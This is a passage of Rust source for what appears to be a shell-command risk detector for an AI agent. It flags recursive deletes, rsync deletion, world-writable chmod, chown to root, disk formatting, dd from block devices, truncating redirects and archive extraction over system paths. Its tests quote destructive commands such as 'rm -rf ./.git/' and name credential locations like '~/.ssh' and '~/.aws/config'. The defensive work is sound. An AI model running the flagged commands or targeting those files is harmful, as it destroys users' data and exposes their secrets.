        } else if a.len() > 1 && a.starts_with('-') {
            if a.contains(['r', 'R']) {
                *(if seen_operand { &mut after } else { &mut short }) = true;
            }
        } else {
            seen_operand = true;
        }
    }
    match (short, long, after) {
        (true, _, _) => Recursion::Short,
        (_, true, _) => Recursion::Long,
        (_, _, true) => Recursion::After,
        _ => Recursion::No,
    }
}

/// Whether deleting `path` recursively leaves the project and temp space, or
/// takes the project's whole git history.
fn risky_tree(path: &str, cwd: Option<&str>) -> bool {
    let whole_git = components(&resolve(path, cwd)).is_some_and(|p| p == [".git"]);
    whole_git || !matches!(classify(path, cwd), Target::Project | Target::Temp)
}

fn recursive_delete(cmd: &Command, kind: Recursion) -> bool {
    rm_recursion(cmd) == kind && any_operand(cmd, risky_tree)
}

fn delete_root_path(cmd: &Command) -> bool {
    let system =
        |p: &str, cwd: Option<&str>| matches!(classify(p, cwd), Target::Root | Target::System);
    rm_recursion(cmd) == Recursion::No && any_operand(cmd, system)
}

/// Whether an operand, seen from the command's directory, passes `pred`.
fn any_operand(cmd: &Command, pred: fn(&str, Option<&str>) -> bool) -> bool {
    cmd.operands().iter().any(|p| pred(p, cmd.cwd.as_deref()))
}

#[rustfmt::skip]
const RSYNC: Spec = Spec::gnu("efBTM", &["exclude", "include", "filter", "files-from", "rsh", "rsync-path", "temp-dir", "compare-dest", "copy-dest", "link-dest", "partial-dir", "backup-dir", "suffix", "chmod", "chown", "usermap", "groupmap", "log-file", "password-file", "exclude-from", "include-from", "max-size", "min-size", "timeout", "bwlimit", "port", "out-format", "info", "debug"]);

fn rsync_delete(cmd: &Command) -> bool {
    let o = parse_opts(&cmd.args, &RSYNC);
    let deletes = o.longs.iter().any(|(k, _)| k.starts_with("del"));
    let Some(dest) = o.operands.last().filter(|_| o.operands.len() >= 2) else {
        return false;
    };
    let remote = dest.starts_with("rsync://")
        || dest
            .split_once(':')
            .is_some_and(|(host, _)| !host.is_empty() && !host.contains('/'));
    deletes
        && (remote
            || !matches!(
                classify(dest, cmd.cwd.as_deref()),
                Target::Project | Target::Temp
            ))
}

// ---------------------------------------------------------------------------
// Permissions and formatting.

/// Whether a chmod mode lets others write: octal with the others' `w` bit,
/// or a symbolic clause for `o`/`a` that adds or sets `w` (or copies `u`/`g`).
fn mode_world_writable(mode: &str) -> bool {
    if !mode.is_empty() && mode.len() <= 5 && mode.chars().all(|c| c.is_digit(8)) {
        return mode
            .chars()
            .last()
            .and_then(|c| c.to_digit(8))
            .is_some_and(|d| d & 2 != 0);
    }
    mode.split(',').any(|clause| {
        let who_end = clause
            .find(|c: char| !"ugoa".contains(c))
            .unwrap_or(clause.len());
        let others = clause[..who_end].contains(['o', 'a']);
        let mut op = ' ';
        others
            && clause[who_end..].chars().any(|c| {
                if "+-=".contains(c) {
                    op = c;
                    return false;
                }
                op != '-' && (c == 'w' || c == 'u' || c == 'g')
            })
    })
}

#[rustfmt::skip]
const MODE: Spec = Spec::gnu("mogSt", &["mode", "owner", "group", "suffix", "target-directory", "context"]);

fn world_writable(cmd: &Command) -> bool {
    if cmd.program == "chmod" {
        let o = parse_opts(&cmd.args, &GNU);
        return !o.long("reference", 3)
            && o.operands.first().is_some_and(|m| mode_world_writable(m));
    }
    let o = parse_opts(&cmd.args, &MODE);
    o.value('m')
        .or(o.long_value("mode", 2))
        .is_some_and(mode_world_writable)
}

fn world_writable_long(cmd: &Command) -> bool {
    world_writable(cmd) && parse_opts(&cmd.args, &GNU).long("recursive", 3)
}

/// `Some(long)` when chown gives files to root recursively; `long` when by `--recursive`.
fn chown_to_root(cmd: &Command) -> Option<bool> {
    let o = parse_opts(&cmd.args, &GNU);
    let owner = o.operands.first().filter(|_| !o.long("reference", 3))?;
    let user = owner.split([':', '.']).next().unwrap_or(owner);
    if !matches!(user, "root" | "0") {
        return None;
    }
    if o.long("recursive", 3) {
        Some(true)
    } else {
        o.flag('R').then_some(false)
    }
}

fn format_filesystem(cmd: &Command) -> bool {
    let spec = Spec::gnu("t", &["type"]);
    // A plain file in the project is a disk image being built; a block device is the hardline's.
    parse_opts(&cmd.args, &spec)
        .operands
        .iter()
        .any(|p| classify(p, cmd.cwd.as_deref()) != Target::Project)
}

fn disk_copy(cmd: &Command) -> bool {
    cmd.args
        .iter()
        .filter_map(|a| a.strip_prefix("if="))
        .any(is_block_device)
}

// ---------------------------------------------------------------------------
// Writing: redirections, tee, copies, in-place edits.

/// Every file written by a redirection, with the command that writes it.
fn written_files(analysis: &Analysis) -> impl Iterator<Item = (&Command, &Redirect)> {
    let writes = |r: &&Redirect| matches!(r.op, RedirectOp::Write | RedirectOp::Append);
    analysis
        .commands
        .iter()
        .flat_map(move |c| c.redirects.iter().filter(writes).map(move |r| (c, r)))
}

/// The command and its redirection as the verdict quotes them (`echo x >> ~/.bashrc`).
fn quote_write(cmd: &Command, r: &Redirect) -> String {
    let fd = r.fd.map(|fd| fd.to_string()).unwrap_or_default();
    let op = if r.op == RedirectOp::Append {
        ">>"
    } else {
        ">"
    };
    format!("{} {fd}{op} {}", cmd.display(), r.target)
        .trim_start()
        .to_string()
}

fn redirect_matching(analysis: &Analysis, pred: fn(&str, Option<&str>) -> bool) -> Option<String> {
    written_files(analysis)
        .find(|(c, r)| pred(&r.target, c.cwd.as_deref()))
        .map(|(c, r)| quote_write(c, r))
}

/// A redirection group (`{ ...; } > f`, `( ... ) > f`) is emitted like a bare
/// `> f`; its body's output is what gets written, so it is not a truncation.
static GROUP_REDIRECT: Lazy<Regex> = Lazy::new(|| Regex::new(r"[)}]\s*\d?>").expect("valid regex"));

fn bare_truncation(analysis: &Analysis) -> Option<String> {
    let grouped = GROUP_REDIRECT.is_match(&analysis.text);
    analysis.commands.iter().find_map(|c| {
        let bare = (c.program.is_empty() && !grouped)
            || (matches!(c.program.as_str(), ":" | "true") && c.args.is_empty());
        if !bare {
            return None;
        }
        let r = c.redirects.iter().find(|r| {
            r.op == RedirectOp::Write
                && r.fd.is_none_or(|fd| fd == 1)
                && !harmless_device(&r.target)
                && classify(&r.target, c.cwd.as_deref()) != Target::Temp
        })?;
        Some(quote_write(c, r))
    })
}

/// Where cp, mv, install, ln, rsync, scp and dd write: the destination, and
/// for a destination directory the path each source lands on.
fn copy_destinations(cmd: &Command) -> Vec<String> {
    if cmd.program == "dd" {
        return cmd
            .args
            .iter()
            .filter_map(|a| a.strip_prefix("of="))
            .map(str::to_string)
            .collect();
    }
    let spec = match cmd.program.as_str() {
        "rsync" => RSYNC,
        "scp" => Spec {
            values: "cFiJloPS",
            ..GNU
        },
        _ => MODE,
    };
    let o = parse_opts(&cmd.args, &spec);
    let (dir, sources) = match o.value('t').or(o.long_value("target-directory", 3)) {
        Some(dir) => (dir, &o.operands[..]),
        None if o.operands.len() >= 2 => (
            o.operands[o.operands.len() - 1],
            &o.operands[..o.operands.len() - 1],
        ),
        None => return Vec::new(),
    };
    let mut out = vec![dir.to_string()];
    let dir_like = o.value('t').is_some()
        || cmd.program == "rsync"
        || dir.ends_with('/')
        || matches!(dir, "." | ".." | "~");
    if dir_like {
        out.extend(
            sources
                .iter()
                .map(|s| format!("{}/{}", dir.trim_end_matches('/'), basename(s))),
        );
    }
    out
}

fn copies_to(cmd: &Command, pred: fn(&str, Option<&str>) -> bool) -> bool {
    let cwd = cmd.cwd.as_deref();
    copy_destinations(cmd).iter().any(|d| pred(d, cwd))
}

/// How a file is edited in place.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Edit {
    /// `sed -i`, `gawk -i inplace`.
    Short,
    /// `sed --in-place`.
    Long,
    /// `perl -i`, `ruby -i`.
    Script,
}

#[rustfmt::skip]
const SED: Spec = Spec { values: "efl", attached: "i", long_values: &["expression", "file", "line-length"], permute: true };
#[rustfmt::skip]
const PERL: Spec = Spec { values: "eE", attached: "iIlmM0CFdDxV", long_values: &[], permute: false };
const RUBY: Spec = Spec {
    values: "eIrCE",
    attached: "iFx0W",
    long_values: &[],
    permute: false,
};
#[rustfmt::skip]
const AWK: Spec = Spec::gnu("fvFiEl", &["file", "assign", "field-separator", "include", "exec", "load"]);

/// The kind of in-place edit and the files it rewrites.
fn in_place(cmd: &Command) -> Option<(Edit, Vec<&str>)> {
    let spec = match cmd.program.as_str() {
        "sed" | "gsed" => SED,
        "perl" => PERL,
        "ruby" => RUBY,
        _ => AWK,
    };
    let o = parse_opts(&cmd.args, &spec);
    let (edit, script_given) = match cmd.program.as_str() {
        "sed" | "gsed" => {
            let edit = if o.value('i').is_some() {
                Edit::Short
            } else if o.long("in-place", 1) {
                Edit::Long
            } else {
                return None;
            };
            (
                edit,
                o.value('e').is_some()
                    || o.value('f').is_some()
                    || o.long("expression", 1)
                    || o.long("file", 2),
            )
        }
        "perl" | "ruby" => {
            o.value('i')?;
            (
                Edit::Script,
                o.value('e').is_some() || o.value('E').is_some(),
            )
        }
        _ => {
            let inplace = o.values.iter().any(|(c, v)| *c == 'i' && *v == "inplace")
                || o.longs.iter().any(|(k, v)| {
                    "include".starts_with(k) && k.len() >= 3 && *v == Some("inplace")
                });
            if !inplace {
                return None;
            }
            (
                Edit::Short,
                o.value('f').is_some() || o.value('E').is_some(),
            )
        }
    };
    // Without -e/-f the first operand is the script itself.
    let files = o
        .operands
        .iter()
        .skip(usize::from(!script_given))
        .copied()
        .collect();
    Some((edit, files))
}

fn edits(cmd: &Command, kinds: &[Edit], pred: fn(&str, Option<&str>) -> bool) -> bool {
    in_place(cmd).is_some_and(|(edit, files)| {
        kinds.contains(&edit) && files.iter().any(|f| pred(f, cmd.cwd.as_deref()))
    })
}

/// A size that empties or shortens: `0`, `-N`, `<N`, `/N`, or another file's size.
fn truncate_shrinks(cmd: &Command) -> bool {
    let spec = Spec::gnu("sr", &["size", "reference"]);
    let o = parse_opts(&cmd.args, &spec);
    let shrinks = o.value('r').is_some()
        || o.long("reference", 3)
        || o.value('s').or(o.long_value("size", 2)).is_some_and(|s| {
            let digits: String = s.chars().take_while(char::is_ascii_digit).collect();
            s.starts_with(['-', '<', '/'])
                || (!digits.is_empty() && digits.chars().all(|c| c == '0'))
        });
    let scratch =
        |p: &str, cwd: Option<&str>| harmless_device(p) || classify(p, cwd) == Target::Temp;
    shrinks && !o.operands.is_empty() && !o.operands.iter().all(|p| scratch(p, cmd.cwd.as_deref()))
}

#[rustfmt::skip]
const TAR: Spec = Spec::gnu("fCTXbHIKLNgV", &["file", "directory", "files-from", "exclude-from", "use-compress-program", "newer", "label"]);

fn extract_over_system(cmd: &Command) -> bool {
    let cwd = cmd.cwd.as_deref();
    let (dest, absolute_names) = if cmd.program == "unzip" {
        let dest = cmd
            .args
            .iter()
            .position(|a| a == "-d")
            .and_then(|i| cmd.args.get(i + 1));
        (dest.map(String::as_str), false)
    } else {
        // Old style: the first word is a cluster without its dash (`tar xzf a.tgz`).
        let mut args = cmd.args.clone();
        if let Some(first) = args.first_mut().filter(|f| !f.starts_with('-')) {
            first.insert(0, '-');
        }
        let o = parse_opts(&args, &TAR);
        if !(o.flag('x') || o.long("extract", 2) || o.long("get", 2)) {
            return false;
        }
        let dest = o
            .value('C')
            .or(o.long_value("directory", 3))
            .map(str::to_string);
        let absolute = o.flag('P') || o.long("absolute-names", 2);
        return absolute
            || matches!(
                classify(dest.as_deref().unwrap_or("."), cwd),
                Target::Root | Target::System | Target::Home
            );
    };
    absolute_names
        || matches!(
            classify(dest.unwrap_or("."), cwd),
            Target::Root | Target::System | Target::Home
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmd(line: &str) -> Command {
        let mut words = line.split_whitespace().map(str::to_string);
        let path = words.next().unwrap_or_default();
        let program = basename(&path).to_string();
        Command {
            program,
            path,
            args: words.collect(),
            ..Command::default()
        }
    }

    #[test]
    fn home_paths_however_written() {
        let cases = [
            ("~/.ssh/config", None, Some(".ssh/config")),
            ("~", None, Some("")),
            ("~bob/.bashrc", None, Some(".bashrc")),
            ("/home/alice/.zshrc", None, Some(".zshrc")),
            ("/root/.profile", None, Some(".profile")),
            ("$HERMES_HOME/.env", None, Some(".hermes/.env")),
            ("~/x/../.bashrc", None, Some(".bashrc")),
            (".bashrc", Some("~"), Some(".bashrc")),
            ("$HOMEDIR/.bashrc", None, None),
            ("/etc/hosts", None, None),
        ];
        for (path, cwd, rel) in cases {
            assert_eq!(home_relative(path, cwd).as_deref(), rel, "{path}");
        }
        let sensitive = ["~/.ssh", "~/.aws/config", "~/.hermes/.env", "/root/.bashrc"];
        assert!(sensitive.iter().all(|p| is_sensitive(p, None)));
        let plain = ["~/.sshx", "~/.ssh.bak", "~/notes.txt", ".bashrc"];
        assert!(!plain.iter().any(|p| is_sensitive(p, None)));
        assert!(is_hermes_config("~/.hermes/profiles/w/config.yaml", None));
        assert!(!is_hermes_config("~/.hermes/skills/x/skill.yaml", None));
    }

    #[test]
    fn env_files_and_system_paths() {
        let env = [
            ".env",
            "app/.env.production",
            ".git/hooks/post-checkout",
            ".claude/settings.json",
        ];
        assert!(env.iter().all(|p| is_project_env(p, None)));
        let plain = [
            ".env.example",
            ".env.local.sample",
            "/tmp/x/.env",
            "my.env",
            ".environment",
        ];
        assert!(!plain.iter().any(|p| is_project_env(p, None)));
        assert!(is_system("hosts", Some("/etc")) && !is_system("hosts", Some("..")));
        assert!(!is_system("/dev/null", None) && !is_system("/dev/fd/2", None));
    }

    #[test]
    fn rm_recursion_and_targets() {
        assert_eq!(rm_recursion(&cmd("rm -rf x")), Recursion::Short);
        assert_eq!(rm_recursion(&cmd("rm --rec x")), Recursion::Long);
        assert_eq!(rm_recursion(&cmd("rm x -fR")), Recursion::After);
        assert_eq!(rm_recursion(&cmd("rm -f -- -r")), Recursion::No);
        let up = Command {
            cwd: Some("..".into()),
            ..cmd("rm -rf build")
        };
        assert!(recursive_delete(&up, Recursion::Short));
        assert!(!recursive_delete(
            &cmd("rm -rf build /tmp/x $TMPDIR/y"),
            Recursion::Short
        ));
        assert!(recursive_delete(&cmd("rm -rf ./.git/"), Recursion::Short));
        assert!(!delete_root_path(&cmd("rm -r /etc/x")));
    }

    #[test]
    fn find_expression() {
        let line = "-L . src -name -delete -exec rm {} ; -newermt x -fprintf f %p -print";
        let args: Vec<String> = line.split(' ').map(str::to_string).collect();
        let f = parse_find(&args);
        assert_eq!(f.roots, vec![".", "src"]);
        assert_eq!(f.words, vec!["-print"]);
        assert_eq!(f.execs, vec![vec!["rm", "{}"]]);
    }

    #[test]
    fn modes() {
        for m in [
            "777", "0666", "2", "o+w", "a+rw", "go=rwx", "u+x,o+w", "o=u",
        ] {
            assert!(mode_world_writable(m), "{m}");
        }
        for m in ["755", "1775", "u+w", "+w", "o-w", "a=rx", "g+w", "o+rx", ""] {
            assert!(!mode_world_writable(m), "{m}");
        }
    }

    #[test]
    fn in_place_edits() {
        let edit = |line: &str| in_place(&cmd(line)).map(|(kind, files)| (kind, files.join(" ")));
        assert_eq!(edit("sed -ne s/x/y/p f"), None);
        assert_eq!(edit("sed -ie s/x/y/ f"), Some((Edit::Short, "f".into())));
        assert_eq!(
            edit("sed -i -e s/x/y/ f g"),
            Some((Edit::Short, "f g".into()))
        );
        assert_eq!(edit("sed --in-pl s/x/y/ f"), Some((Edit::Long, "f".into())));
        assert_eq!(
            edit("perl -pi -e s/a/b/ f"),
            Some((Edit::Script, "f".into()))
        );
        assert_eq!(
            edit("perl -i.bak -p fix.pl f"),
            Some((Edit::Script, "f".into()))
        );
        assert_eq!(
            edit("gawk -i inplace {print} f"),
            Some((Edit::Short, "f".into()))
        );
    }

    #[test]
    fn copy_destinations_include_landing_paths() {
        assert_eq!(
            copy_destinations(&cmd("cp a b c/")),
            vec!["c/", "c/a", "c/b"]
        );
        assert_eq!(
            copy_destinations(&cmd("install -m 644 -t /etc x")),
            vec!["/etc", "/etc/x"]
        );
        assert_eq!(
            copy_destinations(&cmd("cp .env .env.bak")),
            vec![".env.bak"]
        );
        assert!(copy_destinations(&cmd("ln -s /etc/x")).is_empty());
    }

    #[test]
    fn bare_redirects() {
        let analysis = |text: &str, program: &str| {
            let redirect = Redirect {
                op: RedirectOp::Write,
                fd: None,
                target: "out.txt".into(),
            };
            let command = Command {
                program: program.into(),
                redirects: vec![redirect],
                ..Command::default()
            };
            Analysis {
                text: text.into(),
                commands: vec![command],
                ..Analysis::default()
            }
        };
        assert!(bare_truncation(&analysis("> out.txt", "")).is_some());
        assert!(bare_truncation(&analysis("{ echo a; } > out.txt", "")).is_none());
        assert!(bare_truncation(&analysis("echo > out.txt", "echo")).is_none());
    }
}
